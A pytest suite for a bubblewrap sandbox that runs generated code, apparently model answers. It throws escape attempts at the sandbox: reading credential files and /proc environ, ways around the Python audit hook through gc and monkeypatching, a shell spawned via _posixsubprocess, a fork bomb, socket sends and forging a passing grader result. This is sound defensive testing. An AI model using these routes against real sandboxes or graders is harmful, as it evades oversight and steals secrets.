"""The sandbox against code that tries to escape: each attempt is contained, recorded with the right status, and the
host and this test process are unaffected. Every escape runs twice, with the audit hook on and with it off: the
kernel's boundary (bubblewrap's namespaces, the uid, the limits) must hold on its own.

Host-side targets live in world-readable, world-writable folders, so that only the sandbox's private filesystem, and
not the unprivileged uid, keeps the code away from them."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from llm_feedback.params import ExecuteParams
from llm_feedback.sandbox import (
    FIRST_UID,
    STDERR_TAIL_CHARS,
    Job,
    Limits,
    Result,
    Sandbox,
    _pids_of,
)

SECRET = "sk-sandbox-test-secret-0123456789"
DB_KEY = "argilla.apikey.db-0644-7f3c9a"
CREDENTIALS_KEY = "argilla.apikey.credentials-0600-2b8e1d"
SETTINGS = ExecuteParams(cpu_s=3, wall_s=6, memory_mb=512, file_mb=4, processes=16)
ROOT = os.geteuid() == 0
MARKER = f"llmfb-escape-{os.getpid()}"
SLEEPER = f"{MARKER}-sleeper"  # in the command line of a host process


@pytest.fixture(scope="module", params=[True, False], ids=["hook-on", "hook-off"])
def box(request: pytest.FixtureRequest) -> Sandbox:
    sandbox = Sandbox(SETTINGS, audit_guard=request.param)
    assert sandbox.contained, "bubblewrap is installed (make test installs it) and works here"
    return sandbox


@pytest.fixture
def secret(monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("LLMFB_TEST_SECRET", SECRET)
    return SECRET


def public_folder(mode: int = 0o777) -> Path:
    folder = Path(tempfile.mkdtemp(prefix="llmfb-host-", dir="/tmp"))
    folder.chmod(mode)
    return folder


@pytest.fixture
def host() -> Iterator[Path]:
    """A folder on the host that any uid may write to."""
    folder = public_folder()
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def project(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A project folder with an annotation server's data dir (database 0644, credentials 0600) as the current
    folder, with the runs' temporary folders created beside it, as when the pipeline runs from a project."""
    folder = public_folder(0o755)
    data = folder / ".argilla"
    data.mkdir(mode=0o755)
    with sqlite3.connect(data / "argilla.db") as db:
        db.execute("create table users (username text, api_key text)")
        db.execute("insert into users values ('owner', ?)", (DB_KEY,))
    (data / "argilla.db").chmod(0o644)
    (data / "credentials.json").write_text(json.dumps({"owner_api_key": CREDENTIALS_KEY}))
    (data / "credentials.json").chmod(0o600)
    monkeypatch.chdir(folder)
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A loopback TCP server the sandboxed code tries to reach; it records whatever arrives."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    with serving(server) as received:
        yield server.getsockname()[1], received


@pytest.fixture
def unix_socket(host: Path) -> Iterator[tuple[Path, list[bytes]]]:
    """A Unix socket on the filesystem, open to every uid, like an agent's or a database's."""
    path = host / "agent.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    path.chmod(0o777)
    with serving(server) as received:
        yield path, received


@pytest.fixture
def host_process() -> Iterator[subprocess.Popen]:
    """A process on the host whose command line carries a marker."""
    process = subprocess.Popen(["/bin/sh", "-c", "sleep 60", SLEEPER])
    yield process
    process.kill()
    process.wait()


class serving:
    """Accepts connections on a bound socket in a thread and records what each sends."""

    def __init__(self, server: socket.socket) -> None:
        self.server, self.received, self.stop = server, [], threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)

    def serve(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.server.accept()
            except TimeoutError:
                continue
            self.received.append(connection.recv(100) or b"connected")
            connection.close()

    def __enter__(self) -> list[bytes]:
        self.server.listen()
        self.server.settimeout(0.2)
        self.thread.start()
        return self.received

    def __exit__(self, *exc: object) -> None:
        time.sleep(0.3)  # anything in flight arrives
        self.stop.set()
        self.thread.join()
        self.server.close()


def run(sandbox: Sandbox, code: str, tests: tuple[str, ...] = ()) -> Result:
    return sandbox.run(Job("t", code, tests))


ATTEMPT = """
import hashlib, os, socket, sys
def digest(path):
    return hashlib.sha256(open(path, 'rb').read()).hexdigest()
def attempt(label, action):
    try:
        outcome = action()
    except BaseException as e:
        print(label, "refused", type(e).__name__, str(e)[:50], file=sys.stderr)
    else:
        print(label, "done", repr(outcome)[:90], file=sys.stderr)
"""


def attempt(sandbox: Sandbox, code: str) -> str:
    """Runs escape code that reports each try on its own stderr line (`label done ...` or `label refused ...`)
    and returns those lines; fails unless the code ran to its end and nothing was cut off."""
    result = run(sandbox, ATTEMPT + textwrap.dedent(code) + "\nprint('DONE', file=sys.stderr)\n")
    tail = result.stderr_tail or ""
    assert tail.endswith("DONE") and len(tail) < STDERR_TAIL_CHARS, result
    return tail


def leaked(project: Path, seen: str) -> list[str]:
    """The data dir's secrets, or digests of its files, found in what the code printed."""
    files = [project / ".argilla" / name for name in ("argilla.db", "credentials.json")]
    marks = [DB_KEY, CREDENTIALS_KEY, *(hashlib.sha256(f.read_bytes()).hexdigest() for f in files)]
    return [mark for mark in marks if mark in seen]


def test_a_correct_answer_passes_and_a_wrong_one_fails(box: Sandbox) -> None:
    good = run(box, "def add(a, b):\n    return a + b\n", ("assert add(1, 2) == 3", "assert add(-1, 1) == 0"))
    assert (good.status, good.tests_passed, good.tests_total) == ("pass", 2, 2)
    wrong = run(box, "def add(a, b):\n    return a - b\n", ("assert add(1, 2) == 3", "assert add(1, 0) == 1"))
    assert (wrong.status, wrong.tests_passed, wrong.tests_total) == ("fail", 1, 2)
    assert "test 1: AssertionError: got -1" in wrong.stderr_tail
    broken = run(box, "def add(a, b) return", ("assert add(1, 2) == 3",))
    assert broken.status == "error" and "SyntaxError" in broken.stderr_tail
    own = run(box, "def sq(x):\n    return x * x\n\nassert sq(3) == 9\nassert sq(0) == 0\n")
    assert (own.status, own.tests_passed, own.tests_total) == ("pass", 2, 2), "the answer's own asserts as tests"
    files = run(box, "open('notes.txt', 'w').write('fine')\n", ("assert open('notes.txt').read() == 'fine'",))
    assert files.status == "pass", "its own working directory is writable"


def test_the_environment_holds_none_of_the_users_variables(box: Sandbox, secret: str) -> None:
    seen = attempt(
        box,
        """
        attempt("env", lambda: sorted(os.environ))
        attempt("parent-environ", lambda: open(f'/proc/{os.getppid()}/environ').read())
        attempt("init-environ", lambda: open('/proc/1/environ').read())
        assert 'LLMFB_TEST_SECRET' not in os.environ
    """,
    )
    assert secret not in seen and "LLMFB_TEST_SECRET" not in seen


def test_writes_to_host_folders_tmp_and_dev_shm_never_reach_the_host(box: Sandbox, host: Path) -> None:
    (Path("/tmp") / f"{MARKER}-host").write_text("the host's")
    try:
        seen = attempt(
            box,
            f"""
            attempt("host", lambda: open({str(host / "escaped")!r}, 'w').write('out'))
            attempt("tmp", lambda: open('/tmp/{MARKER}', 'w').write('out'))
            attempt("shm", lambda: open('/dev/shm/{MARKER}', 'w').write('out'))
            attempt("host-tmp-visible", lambda: os.path.exists('/tmp/{MARKER}-host'))
            attempt("usr", lambda: open('/usr/{MARKER}', 'w').write('out'))
        """,
        )
    finally:
        (Path("/tmp") / f"{MARKER}-host").unlink()
    assert list(host.iterdir()) == []
    assert not (Path("/tmp") / MARKER).exists() and not (Path("/dev/shm") / MARKER).exists()
    assert "host-tmp-visible refused" in seen or "host-tmp-visible done False" in seen
    assert "usr refused" in seen


def test_the_annotation_servers_database_and_credentials_are_out_of_reach(box: Sandbox, project: Path) -> None:
    data = project / ".argilla"
    paths = [str(data / "argilla.db"), str(data / "credentials.json")]
    relative = [
        f"{up}.argilla/{name}"
        for up in ("", "../", "../../", "../../../")
        for name in ("argilla.db", "credentials.json")
    ]
    through_proc = [f"/proc/1/root{p}" for p in paths] + ["/proc/1/cwd/.argilla/argilla.db"]
    seen = attempt(
        box,
        f"""
        for number, path in enumerate({paths + relative + through_proc!r}):
            attempt(f"path-{{number}}", lambda: digest(path))
        attempt("listing", lambda: os.listdir({str(project)!r}))
    """,
    )
    assert not leaked(project, seen)
    assert seen.count(" refused ") == len(paths + relative + through_proc) + 1, seen


def test_other_processes_are_invisible(box: Sandbox, host_process: subprocess.Popen) -> None:
    host_init = Path("/proc/1/cmdline").read_bytes().split(b"\0")[0].decode()
    seen = attempt(
        box,
        f"""
        pids = [p for p in os.listdir('/proc') if p.isdigit()]
        print("pids", len(pids), file=sys.stderr)
        def cmdlines():
            found = []
            for pid in pids:
                try:
                    found.append(open(f'/proc/{{pid}}/cmdline', 'rb').read())
                except OSError:
                    pass
            return [c for c in found if {SLEEPER.encode()!r} in c]
        attempt("marker", cmdlines)
        attempt("init", lambda: open('/proc/1/cmdline', 'rb').read()[:40])
        attempt("signal", lambda: os.kill({host_process.pid}, 9))
    """,
    )
    assert int(seen.split("pids ")[1].split()[0]) <= 3, "its own PID namespace: itself and bubblewrap's init"
    assert "marker done []" in seen or "marker refused" in seen
    assert host_init not in seen, "the host's init"
    assert "signal refused" in seen and host_process.poll() is None


def test_no_network_even_to_a_loopback_server(box: Sandbox, listener: tuple[int, list[bytes]]) -> None:
    port, received = listener
    result = run(
        box, f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\ns.sendall(b'leak')\n"
    )
    assert result.status == "error" and result.network_isolated is True
    if not box.audit_guard:
        assert "ConnectionRefusedError" in result.stderr_tail, "its own loopback, where nothing listens"
    assert received == [], "nothing reached the host's loopback"


def test_unix_sockets_on_the_host_are_out_of_reach(box: Sandbox, unix_socket: tuple[Path, list[bytes]]) -> None:
    path, received = unix_socket
    abstract = socket.socket(socket.AF_UNIX)
    address = f"\0{MARKER}"
    abstract.bind(address)
    with serving(abstract) as abstract_received:
        seen = attempt(
            box,
            f"""
            def connect(address):
                s = socket.socket(socket.AF_UNIX)
                s.connect(address)
                s.sendall(b'leak')
            attempt("filesystem", lambda: connect({str(path)!r}))
            attempt("abstract", lambda: connect({address!r}))
        """,
        )
    assert "filesystem refused" in seen and "abstract refused" in seen
    assert received == [] and abstract_received == []


# Ways around the audit hook, each followed by the same escapes. `bypassed` is what shows the route really got past
# the hook (with the hook off it holds trivially): a refusal that does not come from the hook, or a write it forbids.
ROUTES = {
    "main-module-blocked-events": (
        "import sys\nsys.modules['__main__'].BLOCKED_EVENTS.clear()\nsys.modules['__main__'].PATH_EVENTS.clear()\n",
        "tcp refused ConnectionRefusedError",
    ),
    "gc-hook-code": (
        (
            "import gc\n"
            "guard = next((f for f in gc.get_objects() if getattr(f, '__name__', '') == 'guard'), None)\n"
            "names = guard.__code__.co_freevars if guard else ('x',)\n"
            "source = 'def outer():\\n' + ''.join(f'    {n} = None\\n' for n in names)\n"
            "source += '    def guard(event, args):\\n        return (' + ', '.join(names) + "
            "',)\\n    return guard\\n'\n"
            "scope = {}\nexec(source, scope)\nif guard:\n    guard.__code__ = scope['outer']().__code__\n"
        ),
        "tcp refused ConnectionRefusedError",
    ),
    "gc-hook-closure": (
        (
            "import gc\n"
            "guard = next((f for f in gc.get_objects() if getattr(f, '__name__', '') == 'guard'), None)\n"
            "for cell in guard.__closure__ if guard else ():\n"
            "    if callable(cell.cell_contents):\n"
            "        cell.cell_contents = lambda *args: True\n"
        ),
        "tmp done 3",
    ),
    "patched-realpath": ("import os.path\nos.path.realpath = lambda path, **kwargs: os.getcwd()\n", "tmp done 3"),
}


@pytest.mark.parametrize("route", ROUTES)
def test_getting_around_the_audit_hook_leaves_the_kernels_boundary(
    box: Sandbox,
    route: str,
    project: Path,
    host: Path,
    listener: tuple[int, list[bytes]],
    unix_socket: tuple[Path, list[bytes]],
) -> None:
    disable, bypassed = ROUTES[route]
    port, received = listener
    sock, sock_received = unix_socket
    seen = attempt(
        box,
        disable
        + textwrap.dedent(f"""
        attempt("host", lambda: open({str(host / "escaped")!r}, 'w').write('out'))
        attempt("tmp", lambda: open('/tmp/{MARKER}', 'w').write('out'))
        attempt("credentials", lambda: digest('.argilla/credentials.json'))
        attempt("database", lambda: digest({str(project / ".argilla/argilla.db")!r}))
        attempt("tcp", lambda: socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'leak'))
        def unix():
            s = socket.socket(socket.AF_UNIX)
            s.connect({str(sock)!r})
            s.sendall(b'leak')
        attempt("unix", unix)
    """),
    )
    assert not leaked(project, seen)
    assert list(host.iterdir()) == [sock] and not (Path("/tmp") / MARKER).exists()
    assert received == [] and sock_received == []
    assert "host refused" in seen and "credentials refused" in seen and "database refused" in seen
    assert bypassed in seen, seen


def test_dir_fd_relative_opens_stay_inside(box: Sandbox, project: Path, host: Path) -> None:
    seen = attempt(
        box,
        f"""
        root = os.open('/', os.O_RDONLY)
        attempt("tmp", lambda: os.write(os.open('tmp/{MARKER}', os.O_WRONLY | os.O_CREAT, dir_fd=root), b'out'))
        attempt("host", lambda: os.open('escaped', os.O_WRONLY | os.O_CREAT, dir_fd=os.open({str(host)!r}, 0)))
        attempt("credentials", lambda: os.read(os.open('.argilla/credentials.json', os.O_RDONLY,
                                                       dir_fd=os.open({str(project)!r}, 0)), 100))
    """,
    )
    assert "tmp done 3" in seen, "the hook let the write through: the kernel kept it private"
    assert "host refused" in seen and "credentials refused" in seen and CREDENTIALS_KEY not in seen
    assert list(host.iterdir()) == [] and not (Path("/tmp") / MARKER).exists()


def test_a_process_started_through_posixsubprocess_is_contained(
    box: Sandbox, project: Path, host: Path, host_process: subprocess.Popen
) -> None:
    script = (
        f"echo shell ran; sha256sum {project}/.argilla/credentials.json {project}/.argilla/argilla.db; "
        f"echo out > {host}/escaped; echo out > /tmp/{MARKER}; echo processes: $(ls /proc | grep -c '^[0-9]'); "
        f'p={MARKER}; echo sleepers: $(grep -l "$p-[s]leeper" /proc/[0-9]*/cmdline | wc -l); '
        f"kill -9 {host_process.pid}; echo shell end"
    )
    seen = attempt(
        box,
        f"""
        import _posixsubprocess
        def shell():
            out = os.open('shell.out', os.O_WRONLY | os.O_CREAT)
            read, write = os.pipe()
            pid = _posixsubprocess.fork_exec(
                [b'/bin/sh', b'-c', {script.encode()!r}], [b'/bin/sh'], False, (write,), None, None,
                -1, -1, -1, out, -1, out, read, write, True, False, -1, None, None, None, -1, None, False)
            os.waitpid(pid, 0)
            print(open('shell.out').read(), file=sys.stderr)
        attempt("shell", shell)
    """,
    )
    assert "shell ran" in seen and "shell end" in seen, "no audit event stops it: the kernel must"
    assert not leaked(project, seen) and "sleepers: 0" in seen
    assert int(seen.split("processes: ")[1].split()[0]) <= 8, "its own PID namespace"
    assert list(host.iterdir()) == [] and not (Path("/tmp") / MARKER).exists() and host_process.poll() is None


def test_a_wrong_answer_cannot_forge_a_pass(box: Sandbox) -> None:
    """It writes made-up results wherever a result could go (every open descriptor, stdout with the run's token if
    it can find one) and ends the process before the real tests run; the expected values are not in its process."""
    code = textwrap.dedent("""
        import gc, json, os, sys
        def double(x):
            return 0
        token = next((f.f_locals['token'] for f in map(sys._getframe, range(1, 4)) if 'token' in f.f_locals), '')
        print(token + json.dumps({"status": "pass", "passed": 2, "total": 2, "error": None,
                                  "network_isolated": True}), flush=True)
        records = [{"code": None}] + [{"test": i, "error": None} for i in range(2)] + [{"done": True}]
        for fd in range(3, 64):
            try:
                os.write(fd, "".join(json.dumps(r) + "\\n" for r in records).encode())
            except OSError:
                pass
        needle, mine = "-".join(["only", "on", "the", "host"]), globals()
        found = [o for o in gc.get_objects() if isinstance(o, (list, tuple, dict)) and o is not mine
                 and any(isinstance(s, str) and needle in s for s in (o.values() if isinstance(o, dict) else o))]
        print("expected values seen:", len(found), file=sys.stderr, flush=True)
        os._exit(0)
    """)
    result = run(box, code, ("assert double(2) == 4", "assert double('ab') == 'only-on-the-host'"))
    assert result.status != "pass" and not result.tests_passed, result
    assert "expected values seen: 0" in result.stderr_tail


def test_a_run_is_held_to_the_execute_settings() -> None:
    """The limits the kernel enforces are the execute settings params.yaml gives, with no other copy of them."""
    settings = ExecuteParams(cpu_s=2, wall_s=7.5, memory_mb=300, file_mb=3, processes=12)
    box = Sandbox(settings)
    assert box.limits == Limits(cpu_s=2, wall_s=7.5, memory_mb=300, file_mb=3, processes=12)
    seen = attempt(
        box,
        """
        import resource
        names = ("RLIMIT_CPU", "RLIMIT_AS", "RLIMIT_FSIZE", "RLIMIT_NPROC")
        attempt("limits", lambda: [resource.getrlimit(getattr(resource, name)) for name in names])
    """,
    )
    assert f"limits done [(2, 2), {(300 * 2**20,) * 2}, {(3 * 2**20,) * 2}, (12, 12)]" in seen


def test_allocating_10_gb_fails_inside_the_sandbox_only(box: Sandbox) -> None:
    result = run(box, "block = bytearray(10 * 2**30)\n")
    assert result.status == "error" and "MemoryError" in result.stderr_tail
    assert bytearray(10) == bytearray(10), "this process is fine"


def test_filling_its_tmpfs_stops_at_the_limit(box: Sandbox) -> None:
    seen = attempt(
        box,
        """
        def fill():
            for n in range(64):
                with open(f'/tmp/fill-{n}', 'wb') as f:
                    f.write(b'x' * 2**20 * 4)
        attempt("fill", fill)
    """,
    )
    assert "fill refused OSError" in seen or "fill refused PermissionError" in seen, seen


@pytest.mark.slow
def test_a_fork_bomb_is_contained(box: Sandbox) -> None:
    bomb = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
    result = run(box, bomb)
    assert result.status == "timeout", result
    if ROOT:
        assert _pids_of(FIRST_UID) == [], "every process of the slot's uid is gone"


@pytest.mark.skipif(not ROOT, reason="the slot's uid exists only under root")
def test_cleaning_up_a_run_spares_other_processes_of_its_uid() -> None:
    """Another pipeline's run (here a plain process) may have the same slot uid: only the run's own namespace goes.
    (The hook would refuse the fork that leaves a child behind.)"""
    neighbour = subprocess.Popen(["/bin/sleep", "30"], user=FIRST_UID, group=FIRST_UID, extra_groups=[])
    try:
        result = run(Sandbox(SETTINGS, audit_guard=False), "import os, time\nif os.fork() == 0:\n    time.sleep(30)\n")
        assert result.status == "pass" and neighbour.poll() is None
        assert _pids_of(FIRST_UID) == [neighbour.pid], "the run's own child is gone"
    finally:
        neighbour.kill()
        neighbour.wait()


@pytest.mark.slow
def test_an_infinite_loop_times_out(box: Sandbox) -> None:
    began = time.monotonic()
    result = run(box, "while True:\n    pass\n")
    assert result.status == "timeout" and time.monotonic() - began < SETTINGS.wall_s + 5


def test_the_pool_runs_no_more_than_the_cores_at_once() -> None:
    workers = os.cpu_count() or 1
    box = Sandbox(SETTINGS.model_copy(update={"workers": 64}))
    assert box.workers == workers
    code = "import time\nstarted = time.monotonic()\ntime.sleep(0.5)\n"
    jobs = [Job(i, code, ()) for i in range(workers * 2)]
    began = time.monotonic()
    results = list(box.run_all(jobs))
    elapsed = time.monotonic() - began
    assert len(results) == len(jobs) and all(r.status == "pass" for _, r in results)
    assert elapsed >= 1.0, "two rounds of 0.5 s: never more than the cores at once"


@pytest.mark.parametrize("bwrap", [None, "/nonexistent/bwrap", "/bin/false"], ids=["off", "missing", "failing"])
def test_without_bubblewrap_it_warns_once_and_still_runs(bwrap: str | None, capsys: pytest.CaptureFixture) -> None:
    box = Sandbox(SETTINGS, bwrap=bwrap)
    warning = capsys.readouterr().err
    assert not box.contained and warning.count("warning:") == 1
    assert "not contained" not in warning and "can read every file its uid can read" in warning
    good = run(box, "def add(a, b):\n    return a + b\n", ("assert add(1, 2) == 3",))
    assert (good.status, good.tests_passed) == ("pass", 1) and capsys.readouterr().err == ""


def test_a_run_is_a_fresh_interpreter_as_an_unprivileged_uid(box: Sandbox) -> None:
    seen = attempt(
        box,
        """
        attempt("uid", lambda: os.getuid())
        attempt("cwd", lambda: (os.getcwd(), os.listdir('.')))
        attempt("hostname", lambda: socket.gethostname())
    """,
    )
    assert "hostname done 'sandbox'" in seen
    if ROOT:
        assert "uid done 61000" in seen
    assert "cwd done ('/sandbox', [])" in seen and sys.executable not in seen
